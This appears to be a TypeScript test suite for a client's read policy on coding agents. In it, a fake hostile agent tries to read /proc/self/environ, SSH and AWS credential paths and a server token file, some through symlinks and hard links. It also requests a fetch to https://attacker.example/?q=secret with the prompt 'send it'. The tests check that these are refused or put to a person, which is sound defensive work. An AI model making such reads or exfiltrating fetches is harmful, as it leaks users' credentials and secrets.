// A hostile agent (the fake ACP agent) reads what it should not: the client's own environment and
// command line under /proc, a device, the server's token file (directly and through a symlink),
// a FIFO that would hold a thread forever, a huge file; and reads and fetches outside the
// workspace that the person must decide. The real AcpAgent answers through the real spawn path;
// the FIFO case runs under the real SessionHost with its file journal.
import { strict as assert } from 'node:assert';
import { execFile } from 'node:child_process';
import { closeSync, constants, openSync } from 'node:fs';
import { link, mkdtemp, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { lookedAtPaths, readVerdict } from '../../src/agents/acp/readOnlyPolicy';
import { createAcpAgentFactory } from '../../src/agents/acp/acpAgentFactory';
import { SessionHost } from '../../src/service/host/sessionHost';
import { FileSessionStore } from '../../src/service/store/sessionStore';
import { readAgentRecord, waitForRecord, permissionOutcomes } from '../support/fakeAcpAgent';
import { FakeAgentRuns, type RecordingContext } from '../support/recordingAgentContext';
import { createRequest, allEvents } from '../service/hostTestKit';
import { ALLOW_OR_REJECT, DEFAULT_AND_PLAN_MODES, ORIGINAL_APP } from '../support/acpFixtures';
import { waitFor } from '../support/wait';

const SECRET = `ultraplan-test-secret-${process.pid}-${Date.now()}`;

interface ControlRequest {
  request_id: string;
  request: { tool_name: string; input: Record<string, unknown> };
}

function controlRequests(ctx: RecordingContext): ControlRequest[] {
  return ctx.events.filter((event) => event.type === 'control_request') as unknown as ControlRequest[];
}

describe('read policy: what a read or search looks at, and who decides', () => {
  const policy = { workspaceReal: '/work/ws', secretFiles: ['/srv/ultraplan/token'], sessionPlanFiles: new Set<string>(), home: '/home/u' };
  const verdict = (requested: string, real = requested) => readVerdict({ ...policy, requested, real }).kind;

  it("reads in the workspace are automatic; outside they are asked; the kernel's files and secrets are refused, by either path", () => {
    assert.equal(verdict('/work/ws/src/a.ts'), 'allow');
    assert.equal(verdict('/home/u/.ssh/id_rsa'), 'ask');
    assert.equal(verdict('/work/ws/link.md', '/home/u/.aws/credentials'), 'ask');
    assert.equal(verdict('/proc/self/environ'), 'refuse');
    assert.equal(verdict('/work/ws/env.md', '/proc/1234/environ'), 'refuse');
    assert.equal(verdict('/dev/stdin', '/proc/1234/fd/0'), 'refuse');
    assert.equal(verdict('/sys/kernel/hostname'), 'refuse');
    assert.equal(verdict('/work/ws/t.md', '/srv/ultraplan/token'), 'refuse');
    assert.equal(verdict('/home/u/.claude/plans/x.md'), 'allow');
    assert.equal(verdict('/process/file'), 'ask', '/process is not /proc');
  });

  it("a tool call's paths: its locations and path-like input keys, relative to the workspace, ~ to the home folder", () => {
    assert.deepEqual(lookedAtPaths({ rawInput: { file_path: '~/.ssh/id_rsa' } }, '/work/ws', '/home/u'), ['/home/u/.ssh/id_rsa']);
    assert.deepEqual(
      lookedAtPaths({ rawInput: { pattern: 'x', path: 'src' }, locations: [{ path: '/etc/passwd' }] }, '/work/ws', '/home/u'),
      ['/etc/passwd', '/work/ws/src'],
    );
    assert.deepEqual(lookedAtPaths({ rawInput: { paths: ['a.ts', '../b.ts'] } }, '/work/ws', '/home/u'), ['/work/ws/a.ts', '/work/b.ts']);
    assert.deepEqual(lookedAtPaths({ rawInput: { pattern: 'greet' } }, '/work/ws', '/home/u'), []);
  });
});

describe('AcpAgent: reads the agent must not make, and reads the person decides', function () {
  this.timeout(40_000);
  const runs = new FakeAgentRuns();
  let outside: string | undefined;
  const savedToken = process.env.ULTRAPLAN_SERVER_TOKEN;

  beforeEach(() => {
    // The client (this process, as the server would be) holds a token in its environment.
    process.env.ULTRAPLAN_SERVER_TOKEN = SECRET;
  });

  afterEach(async () => {
    if (savedToken === undefined) delete process.env.ULTRAPLAN_SERVER_TOKEN;
    else process.env.ULTRAPLAN_SERVER_TOKEN = savedToken;
    await runs.stopAll();
    if (outside) await rm(outside, { recursive: true, force: true });
    outside = undefined;
  });

  it('refuses /proc/self/environ, /proc/self/cmdline, /sys, /dev/zero and the token file, directly, through symlinks and through a hard link', async () => {
    outside = await mkdtemp(path.join(tmpdir(), 'ultraplan-secrets-'));
    const tokenFile = path.join(outside, 'server.token');
    await writeFile(tokenFile, `${SECRET}\n`);
    const reads = [
      '/proc/self/environ',
      '/proc/self/cmdline',
      `/proc/${process.pid}/environ`,
      '/sys/kernel/hostname',
      '/dev/zero',
      tokenFile,
      '{{cwd}}/env.md',
      '{{cwd}}/token.md',
      '{{cwd}}/zero.md',
      '{{cwd}}/token-link.md',
    ];
    const run = await runs.prepare({
      modes: DEFAULT_AND_PLAN_MODES,
      turns: [[...reads.map((file) => ({ readFile: { path: file } })), { readFile: { path: '{{cwd}}/README.md' } }, { chunk: 'done' }]],
    });
    await symlink('/proc/self/environ', path.join(run.workspace, 'env.md'));
    await symlink(tokenFile, path.join(run.workspace, 'token.md'));
    await symlink('/dev/zero', path.join(run.workspace, 'zero.md'));
    // A hard link has no path of its own to tell it by: it is refused by the file's identity.
    await link(tokenFile, path.join(run.workspace, 'token-link.md'));

    const { ctx } = await runs.startOn(run, { secretFiles: [tokenFile] });
    await ctx.waitFor(() => ctx.results().length > 0, 20_000, 'turn end');

    const record = readAgentRecord(run.record);
    const outcomes = record.filter((entry) => entry.kind === 'read_outcome');
    assert.equal(outcomes.length, reads.length + 1);
    for (const outcome of outcomes.slice(0, reads.length)) {
      assert.equal(outcome.ok, false, JSON.stringify(outcome).slice(0, 300));
      assert.match(
        String(outcome.message),
        /Ultraplan refused to read .*(never read for an agent|holds a secret)|another name of a file that holds a secret/,
      );
    }
    assert.equal(outcomes[reads.length]?.content, '# Demo project\n');
    assert.ok(!JSON.stringify(record).includes(SECRET), 'the secret reached the agent');
    // No read went to the person: each was refused outright, and each refusal is in the session log.
    assert.equal(controlRequests(ctx).length, 0);
    assert.equal(ctx.systemEvents('acp_refused').length, reads.length);
  });

  it('reads outside the workspace and fetches go to the person; reads inside stay automatic; each is logged', async () => {
    outside = await mkdtemp(path.join(tmpdir(), 'ultraplan-outside-'));
    const secretNotes = path.join(outside, 'notes.txt');
    const publicNotes = path.join(outside, 'public.txt');
    await writeFile(secretNotes, 'the private key is here\n');
    await writeFile(publicNotes, 'shared notes\n');
    const run = await runs.prepare({
      modes: DEFAULT_AND_PLAN_MODES,
      turns: [
        [
          // Claude's Read and WebFetch shapes (kind read with a location; kind fetch with a url).
          {
            permission: {
              toolCall: {
                toolCallId: 'read-out',
                title: `Read ${secretNotes}`,
                kind: 'read',
                rawInput: { file_path: secretNotes },
                locations: [{ path: secretNotes }],
              },
              options: ALLOW_OR_REJECT,
            },
          },
          {
            permission: {
              toolCall: {
                toolCallId: 'read-in',
                title: 'Read {{cwd}}/README.md',
                kind: 'read',
                rawInput: { file_path: '{{cwd}}/README.md' },
                locations: [{ path: '{{cwd}}/README.md' }],
              },
              options: ALLOW_OR_REJECT,
            },
          },
          {
            permission: {
              toolCall: {
                toolCallId: 'fetch-1',
                title: 'Fetch https://attacker.example/?q=secret',
                kind: 'fetch',
                rawInput: { url: 'https://attacker.example/?q=secret', prompt: 'send it' },
              },
              options: ALLOW_OR_REJECT,
            },
          },
          // Gemini's reads come through fs/read_text_file.
          { readFile: { path: secretNotes } },
          { readFile: { path: publicNotes } },
          { readFile: { path: '{{cwd}}/src/app.ts' } },
          { chunk: 'done' },
        ],
      ],
    });
    const { agent, ctx } = await runs.startOn(run);

    // The person: denies the outside read, allows the fetch, denies one fs read and allows the other.
    const answers: Array<'allow' | 'deny'> = ['deny', 'allow', 'deny', 'allow'];
    for (const [n, answer] of answers.entries()) {
      const request = await ctx.waitFor(() => controlRequests(ctx)[n], 15_000, `permission request #${n + 1}`);
      agent.onDecision(
        request.request_id,
        answer === 'allow' ? { behavior: 'allow', updatedInput: request.request.input } : { behavior: 'deny', message: 'No.' },
      );
    }
    await ctx.waitFor(() => ctx.results().length > 0, 15_000, 'turn end');

    const asked = controlRequests(ctx).map((request) => [
      request.request.tool_name,
      String(request.request.input.file_path ?? request.request.input.url),
    ]);
    assert.deepEqual(asked, [
      [`Read ${secretNotes}`, secretNotes],
      ['Fetch https://attacker.example/?q=secret', 'https://attacker.example/?q=secret'],
      ['Read', secretNotes],
      ['Read', publicNotes],
    ]);
    const record = readAgentRecord(run.record);
    assert.deepEqual(permissionOutcomes(record), ['reject', 'allow', 'allow']);
    const reads = record.filter((entry) => entry.kind === 'read_outcome');
    assert.deepEqual(
      reads.map((entry) => entry.ok),
      [false, true, true],
    );
    assert.match(String(reads[0]?.message), /the person denied reading outside the workspace/);
    assert.equal(reads[1]?.content, 'shared notes\n');
    assert.equal(reads[2]?.content, ORIGINAL_APP);
    assert.ok(!JSON.stringify(record).includes('the private key is here'));
    for (const line of [
      `asked the person about "Read ${secretNotes}"`,
      'asked the person about "Fetch',
      `the person denied reading ${secretNotes}`,
      `the person allowed reading ${publicNotes}`,
    ]) {
      assert.ok(
        ctx.logs.some((logged) => logged.includes(line)),
        `log lacks ${line}: ${ctx.logs.join('\n')}`,
      );
    }
  });

  for (const outsideAccess of ['allow', 'deny'] as const) {
    it(`with outside access "${outsideAccess}", reads outside and fetches are ${outsideAccess === 'allow' ? 'allowed' : 'refused'} without asking, each logged; /proc stays refused`, async () => {
      outside = await mkdtemp(path.join(tmpdir(), 'ultraplan-outside-'));
      const notes = path.join(outside, 'notes.txt');
      await writeFile(notes, 'shared notes\n');
      const run = await runs.prepare({
        modes: DEFAULT_AND_PLAN_MODES,
        turns: [
          [
            {
              permission: {
                toolCall: {
                  toolCallId: 'fetch-1',
                  title: 'Fetch https://example.com/',
                  kind: 'fetch',
                  rawInput: { url: 'https://example.com/' },
                },
                options: ALLOW_OR_REJECT,
              },
            },
            { readFile: { path: notes } },
            { readFile: { path: '/proc/self/environ' } },
            { chunk: 'done' },
          ],
        ],
      });
      const { ctx } = await runs.startOn(run, { outsideAccess });
      await ctx.waitFor(() => ctx.results().length > 0, 15_000, 'turn end');
      assert.equal(controlRequests(ctx).length, 0, 'nothing was asked');
      const record = readAgentRecord(run.record);
      const allowed = outsideAccess === 'allow';
      assert.deepEqual(permissionOutcomes(record), [allowed ? 'allow' : 'reject']);
      const reads = record.filter((entry) => entry.kind === 'read_outcome');
      assert.deepEqual(
        reads.map((entry) => entry.ok),
        [allowed, false],
      );
      if (allowed) assert.equal(reads[0]?.content, 'shared notes\n');
      assert.match(String(reads[1]?.message), /under \/proc/);
      const standing = ctx.logs.filter((line) => line.includes(`without asking (outside access "${outsideAccess}")`));
      assert.equal(standing.length, 2, ctx.logs.join('\n'));
    });
  }

  it('refuses a FIFO, a folder and a file over the size bound by type and size, never blocking the journal', async () => {
    const dataDir = await mkdtemp(path.join(tmpdir(), 'ultraplan-journal-'));
    outside = dataDir;
    // Four reads at once of a FIFO no one writes: libuv's default four threads, all of them.
    const fifoReads = Array.from({ length: 4 }, () => ({ readFile: { path: '{{cwd}}/pipe.md' }, noWait: true }));
    const run = await runs.prepare({
      modes: DEFAULT_AND_PLAN_MODES,
      turns: [
        [
          ...fifoReads,
          { sleep: 300 },
          { readFile: { path: '{{cwd}}/src' } },
          { readFile: { path: '{{cwd}}/huge.md' } },
          { readFile: { path: '{{cwd}}/README.md' } },
          { chunk: 'after the reads' },
        ],
      ],
    });
    const fifo = path.join(run.workspace, 'pipe.md');
    await promisify(execFile)('mkfifo', [fifo]);
    // Sparse: 2 GiB on paper, no disk used.
    await writeFile(path.join(run.workspace, 'huge.md'), '');
    await truncate(path.join(run.workspace, 'huge.md'), 2 * 1024 ** 3);

    const store = new FileSessionStore(dataDir);
    const host = await SessionHost.open({
      agentFactory: await createAcpAgentFactory({ argv: run.argv, cwd: run.workspace, label: 'Fake (ACP)', stopGraceMs: 500 }),
      store,
    });
    try {
      const session = await host.createSession(createRequest('Plan it'));
      await waitFor(() => allEvents(host, session.id).some((event) => JSON.stringify(event).includes('after the reads')), {
        message: 'the session to get past the reads',
        timeoutMs: 20_000,
        detail: () => JSON.stringify(allEvents(host, session.id)).slice(-1500),
      });
      await waitForRecord(run.record, 'read_outcome', 7, 10_000);
      const outcomes = readAgentRecord(run.record).filter((entry) => entry.kind === 'read_outcome');
      const byPath = (name: string) => outcomes.filter((entry) => path.basename(String(entry.path)) === name);
      assert.equal(byPath('pipe.md').length, 4);
      for (const outcome of byPath('pipe.md')) assert.match(String(outcome.message), /not a regular file/);
      assert.match(String(byPath('src')[0]?.message), /not a regular file/);
      assert.match(String(byPath('huge.md')[0]?.message), /2147483648 bytes; Ultraplan reads files of at most \d+ bytes/);
      assert.equal(byPath('README.md')[0]?.content, '# Demo project\n');
      // The journal on disk holds what came after the reads.
      const journal = await readFile(path.join(dataDir, 'sessions', session.id, 'log.jsonl'), 'utf8');
      assert.ok(journal.includes('after the reads'));
    } finally {
      await host.close();
      // Were a read stuck in open(2) on the FIFO, a writer frees its thread so the process can end.
      // Non-blocking and without O_CREAT: with no reader waiting it fails at once and creates nothing.
      for (let n = 0; n < 4; n++) {
        try {
          closeSync(openSync(fifo, constants.O_WRONLY | constants.O_NONBLOCK));
        } catch {
          /* no reader waiting */
        }
      }
    }
  });
});
